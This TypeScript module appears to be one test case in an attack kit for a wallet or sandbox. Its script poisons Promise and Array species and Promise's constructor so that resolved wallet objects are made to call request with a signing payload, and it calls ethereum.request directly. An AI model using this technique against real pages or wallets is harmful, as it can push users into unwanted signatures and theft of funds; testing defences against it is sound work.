import type { Attack } from './kit/attack.ts'

export default {
  family: 'poisoning',
  how: 'Gives Promise and Array a species and an iterator of its own, to be handed what is inside.',
  script: `
    class Taken extends Promise {
      static get [Symbol.species]() { return Taken }
      constructor(run) {
        super((resolve, reject) => run((value) => {
          if (typeof value?.request === 'function') value.request(attack.sign)
          resolve(value)
        }, reject))
      }
    }
    Object.defineProperty(Promise, Symbol.species, { configurable: true, get: () => Taken })
    Promise.prototype.constructor = Taken
    Object.defineProperty(Array, Symbol.species, { configurable: true, get: () => function () { return [attack.sign] } })
    ethereum.request(attack.sign)
    await attack.sleep(300)
  `,
} satisfies Attack
